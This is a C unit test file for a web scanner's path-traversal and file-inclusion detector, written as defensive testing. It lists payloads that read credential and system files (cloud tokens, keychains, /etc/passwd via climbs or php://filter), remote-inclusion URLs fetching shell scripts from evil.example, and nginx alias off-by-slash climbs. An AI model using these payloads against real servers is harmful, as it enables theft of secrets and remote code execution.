/* test_payload_rtp6.c - issue 20, session 19 red team of helper t (path
 * traversal, local and remote file inclusion): what note19 and rev7 left
 * open - Windows device names as a file (\\.\CON, C:\CON, con.txt),
 * macOS's and Android's system and per-app files, credentials of cloud
 * tools in a user's home, a script fetched over ftp://, nginx's alias
 * off-by-slash ("/assets../"), and Spring's classpath patterns, which
 * are no file of the server's. Each value is judged as a query parameter
 * value (payload_scan) and as a form body "a=1&q=<percent-encoded
 * value>" (payload_scan_query); the highest path_traversal score must
 * lie in the row's range in both. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/unit/payload_trav_rows.h"

#define KILLS 60, 100
#define TOLD 1, 59
#define NONE 0, 0

/* Windows opens the device whatever the directory or the extension: in
 * the device namespace and after a drive or a climb a kill; a device
 * name with an extension alone ("aux.js", "Con.pdf": files on other
 * systems) and the bare word ("con" is Spanish, COM1 a serial port's
 * setting, "pro/con" a pair) nothing */
static void test_device_names(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"\\\\.\\CON", KILLS},
		{"\\\\.\\NUL", KILLS},
		{"\\\\?\\CON", KILLS},
		{"\\\\.\\CONOUT$", KILLS},
		{"C:\\CON", KILLS},
		{"C:\\Windows\\System32\\con.txt", KILLS}, /* system32: main sensitive path */
		{"d:/inetpub/wwwroot/aux.asp", KILLS}, /* wwwroot: main sensitive path */
		{"con.txt", NONE},
		{"NUL.php", NONE},
		{"COM1.txt", NONE},
		{"uploads/aux.jpg", NONE},
		/* q's look-alikes (la/t.txt) */
		{"pro/con", NONE},
		{"aux.js", NONE},
		{"Con.pdf", NONE},
		{"CON", NONE},
		{"con", NONE},
		{"COM1", NONE},
		{"Serial port COM1 at 9600 baud", NONE},
		{"console.txt", NONE},
		{"lpt10.txt", NONE},
		{"com1_settings.json", NONE},
		{"aux_data.csv", NONE},
		{"https://example.com/con.txt", NONE},
		{"C:\\Users\\jane\\Desktop\\con-notes.txt", NONE},
		{"chili con carne.txt", NONE},
	};
	run("device-names", t, sizeof(t) / sizeof(t[0]));
}

/* macOS keeps /etc under /private and its secrets in Library trees;
 * fonts, frameworks, a user's documents and the temporary trees are
 * what configuration and uploads name */
static void test_macos_files(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"/private/etc/master.passwd", KILLS},
		{"/private/var/db/dslocal/nodes/Default/users/root.plist", KILLS},
		{"/Library/Preferences/com.apple.loginwindow.plist", TOLD}, /* rev8 F2: bare, told */
		{"/Library/Preferences/SystemConfiguration/preferences.plist", TOLD}, /* rev8 F2: bare, told */
		{"/Library/Keychains/System.keychain", KILLS},
		{"~/Library/Keychains/login.keychain-db", TOLD},
		{"/Users/admin/Library/Keychains/login.keychain-db", KILLS},
		{"/System/Library/CoreServices/SystemVersion.plist", TOLD}, /* rev8 F2: bare, told */
		{"../../../../Library/Preferences/com.apple.loginwindow.plist", KILLS},
		{"/Library/Fonts/Arial.ttf", NONE},
		{"/Library/Java/JavaVirtualMachines/jdk-17.jdk/Contents/Home", NONE},
		{"/Library/Preferences/", NONE},
		/* q: services' plists that install docs name */
		{"/Library/LaunchDaemons/com.docker.vmnetd.plist", NONE},
		{"~/Library/LaunchAgents/com.example.agent.plist", NONE},
		{"~/Library/Preferences/com.apple.finder.plist", TOLD},
		{"/System/Library/Fonts/Helvetica.ttc", NONE},
		{"/Users/jane/Documents/invoice.pdf", NONE},
		{"~/Documents/report.pdf", NONE},
		{"/private/tmp/build.log", NONE},
		{"/private/var/folders/xz/abc123/T/pytest-of-jane/run.log", NONE},
		{"/var/tmp/build.log", NONE},
	};
	run("macos-files", t, sizeof(t) / sizeof(t[0]));
}

/* Android: an app's private data under its package name, the system's
 * settings and Wi-Fi keys, the build properties; a server's /data
 * volume and a phone's camera roll are not */
static void test_android_files(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"/data/data/com.example.app/shared_prefs/prefs.xml", TOLD}, /* rev8 F2: bare, told */
		{"/data/data/com.example.bank/databases/user.db", TOLD}, /* rev8 F2: bare, told */
		{"/data/user/0/com.example.app/shared_prefs/auth.xml", TOLD}, /* rev8 F2: bare, told */
		{"/data/system/packages.xml", KILLS},
		{"/data/system/users/0/settings_secure.xml", KILLS},
		{"/data/misc/wifi/WifiConfigStore.xml", KILLS},
		{"/system/build.prop", TOLD}, /* rev8 F2: bare, told */
		{"/data/data/com.example.app/app_webview/Default/Cookies", TOLD}, /* rev8 F2: bare, told */
		{"/proc/self/cmdline", KILLS},
		{"/data/db", NONE},
		{"/data/data.csv", NONE},
		{"/data/system.json", NONE},
		{"/data/data/export.csv", NONE},
		{"/data/data/com.example.app/files/notes.txt", NONE},
		{"/data/data/com.example.app/cache/img.png", NONE},
		{"/data/uploads/2024/photo.jpg", NONE},
		{"/data/misc/notes", NONE},
		{"/sdcard/DCIM/Camera/IMG_20240101.jpg", NONE},
		/* q: what image and file pickers hand back, and shared storage */
		{"/data/user/0/com.example.app/cache/image_picker5521378.jpg", NONE},
		{"/data/user/0/com.example.myapp/cache/file_picker/report.pdf", NONE},
		{"/data/data/com.termux/files/home/project/main.py", NONE},
		{"/storage/emulated/0/Android/data/com.example.app/files/Pictures/IMG_20240601.jpg", NONE},
		{"/sdcard/Android/data/com.example.app/files/Download/invoice.pdf", NONE},
		{"/system/", NONE},
	};
	run("android-files", t, sizeof(t) / sizeof(t[0]));
}

/* the cloud tools' and registries' credentials in a home; the build
 * tools' settings files (~/.m2/settings.xml), which docs and forms name
 * every day, are not; "~/" as docs write a home is told */
static void test_home_credentials(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"/root/.aws/config", KILLS},
		{"/home/user/.config/gh/hosts.yml", TOLD}, /* rev8 F2: bare, told */
		/* the CLI's token cache kills as .aws/credentials does (r9t) */
		{"/home/deploy/.azure/accessTokens.json", KILLS},
		{"/home/deploy/.azure/azureProfile.json", TOLD}, /* rev8 F2: bare, told */
		{"/root/.terraform.d/credentials.tfrc.json", KILLS},
		{"/root/.pypirc", KILLS},
		{"../../../../root/.vault-token", KILLS},
		/* a home as docs write it ("~/"): told */
		{"~/.aws/config", TOLD},
		{"~/.config/gcloud/application_default_credentials.json", TOLD},
		{"~/.azure/accessTokens.json", KILLS}, /* r9t: as ~/.aws/credentials */
		{"~/.vault-token", TOLD},
		{"~/.m2/settings.xml", NONE},
		{"~/.gradle/gradle.properties", NONE},
		{"~/.config/nvim/init.vim", NONE},
		{"~/.aws/", NONE},
		{"/home/jane/.config/", NONE},
	};
	run("home-credentials", t, sizeof(t) / sizeof(t[0]));
}

/* PHP's ftp:// wrapper under allow_url_include: no page is served over
 * ftp, so a PHP, ASP or JSP script cut by an empty query is an
 * include's; uncut it is a mirror's download as often (told); a
 * mirror's archives, readme and Perl scripts are downloads */
static void test_ftp_include(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"ftp://evil.example/shell.php?", KILLS},
		{"ftps://evil.example/c99.php??", KILLS},
		{"ftp://evil.example/x.jsp?", KILLS},
		{"ftp://evil.example/shell.php", TOLD},
		{"ftps://evil.example/c99.php", TOLD},
		{"ftp://anonymous:x@evil.example/s.php", TOLD},
		{"ftp://ftp.example.com/pub/scripts/install.php", TOLD},
		{"ftp://ftp.gnu.org/gnu/bash/bash-5.2.tar.gz", NONE},
		{"ftp://ftp.example.com/pub/readme.txt", NONE},
		{"ftp://ftp.cpan.org/pub/CPAN/scripts/install.pl", NONE},
		{"ftp://ftp.example.com/pub/", NONE},
	};
	run("ftp-include", t, sizeof(t) / sizeof(t[0]));
}

/* nginx "location /assets { alias /srv/assets/; }" serves /assets../x
 * from the parent of /srv/assets/ */
static void test_alias_climb(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"/media../app/settings.py", KILLS},
		{"/static../manage.py", KILLS},
		{"/img../.env", KILLS},
		{"/static/css/main.css", NONE},
		{"/assets/v2/app.js", NONE},
		{"location /assets { alias /srv/assets/; }", NONE},
		{"Wait... /home is full", NONE},
	};
	run("alias-climb", t, sizeof(t) / sizeof(t[0]));
}

/* Spring's resource loader reads inside the application's class path:
 * "classpath*:" patterns and META-INF resources are configuration (main:
 * 75); a climb out of it stays a kill */
static void test_classpath(void **st)
{
	(void)st;
	static const struct srow t[] = {
		{"classpath*:/META-INF/*.xml", NONE},
		{"classpath*:META-INF/spring/*.xml", NONE},
		{"classpath*:/META-INF/spring.factories", NONE},
		{"classpath:META-INF/resources/webjars/", NONE},
		{"classpath*:mapper/**/*Mapper.xml", NONE},
		{"classpath:application.yml", TOLD},
		{"classpath:../../../../etc/passwd", KILLS},
		{"/META-INF/MANIFEST.MF", KILLS},
	};
	run("classpath", t, sizeof(t) / sizeof(t[0]));
}

/* rev8 (session 19 review of the merge): a classpath resource that
 * climbs out of META-INF (L4) and a single named resource (told, as
 * classpath:application.yml is); a bare macOS, Android or cloud-tool
 * path (F2: a desktop or mobile client's settings and crash reports
 * name them) told, the same after a climb, a scheme or a wrapper killed;
 * an ftp:// script with any query (E10), the alias climb with a doubled
 * slash (E11) */
static void test_rev8(void **st)
{
	(void)st;
	static const struct srow t[] = {
		/* L4 */
		{"classpath*:/META-INF/../../WEB-INF/web.xml", KILLS},
		{"classpath*:META-INF/../application.properties", KILLS},
		{"classpath:/META-INF/../../../etc/passwd", KILLS},
		{"classpath:/META-INF/MANIFEST.MF", TOLD},
		{"classpath:META-INF/spring/app-context.xml", TOLD},
		{"classpath*:/META-INF/spring.factories", NONE},
		{"classpath:META-INF/resources/webjars/", NONE},
		{"/META-INF/MANIFEST.MF", KILLS},
		/* F2: bare, told */
		{"/System/Library/CoreServices/SystemVersion.plist", TOLD},
		{"/Users/alice/Library/Preferences/com.apple.finder.plist", TOLD},
		{"/Library/Preferences/SystemConfiguration/preferences.plist", TOLD},
		{"/Library/Preferences/com.apple.loginwindow.plist", TOLD},
		{"/data/data/com.myapp/databases/mydb.db", TOLD},
		{"/data/data/com.myapp/shared_prefs/settings.xml", TOLD},
		{"/system/build.prop", TOLD},
		{"/home/alice/.config/gh/hosts.yml", TOLD},
		{"/home/alice/.azure/azureProfile.json", TOLD}, /* r9t: a token cache kills */
		{"/Users/alice/.config/gcloud/credentials.db", TOLD},
		/* F2: after a climb, a scheme or a wrapper, killed */
		{"../../../../System/Library/CoreServices/SystemVersion.plist", KILLS},
		{"/var/www/html/../../../Library/Preferences/com.apple.loginwindow.plist", KILLS},
		{"../../../data/data/com.myapp/databases/mydb.db", KILLS},
		{"file:///Users/alice/Library/Preferences/com.apple.finder.plist", KILLS},
		{"php://filter/resource=/system/build.prop", KILLS},
		{"../../../../home/alice/.azure/accessTokens.json", KILLS},
		/* F2: system secrets stay kills bare (the /etc/shadow of
		 * macOS and Android), as do single-purpose credential files */
		{"/private/etc/master.passwd", KILLS},
		{"/private/var/db/dslocal/nodes/Default/users/root.plist", KILLS},
		{"/Library/Keychains/System.keychain", KILLS},
		{"/Users/admin/Library/Keychains/login.keychain-db", KILLS},
		{"/data/system/packages.xml", KILLS},
		{"/data/misc/wifi/WifiConfigStore.xml", KILLS},
		{"/root/.vault-token", KILLS},
		{"/home/alice/.aws/credentials", KILLS},
		/* E10 */
		{"ftp://h/x.php?a=", KILLS},
		{"ftp://h/x.php?x", KILLS},
		{"ftp://evil.example/shell.php?a=1", KILLS},
		{"ftp://ftp.cpan.org/pub/CPAN/scripts/install.pl?x", NONE},
		/* E11 */
		{"/static..//app.py", KILLS},
		{"/static..///.env", KILLS},
		{"/static..//", NONE},
		/* F9: a browser's file input value (C:\fakepath\NAME): a
		 * device name with an extension under a drive told; the
		 * namespace, a climb or no extension a kill */
		{"C:\\fakepath\\Con.pdf", TOLD},
		{"C:\\fakepath\\aux.js", TOLD},
		{"C:\\fakepath\\com1.csv", TOLD},
		{"C:\\Users\\ana\\Downloads\\Con.pdf", TOLD},
		{"D:\\Docs\\con.txt", TOLD},
		{"C:\\CON", KILLS},
		{"C:\\COM1", KILLS},
		{"C:\\foo\\..\\con.txt", KILLS},
		{"..\\..\\aux.txt", KILLS},
		{"\\\\.\\CON", KILLS},
		{"\\\\?\\C:\\CON.txt", KILLS},
	};
	run("rev8", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_device_names),   cmocka_unit_test(test_macos_files),
		cmocka_unit_test(test_android_files),  cmocka_unit_test(test_home_credentials),
		cmocka_unit_test(test_ftp_include),    cmocka_unit_test(test_alias_climb),
		cmocka_unit_test(test_classpath),      cmocka_unit_test(test_rev8),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
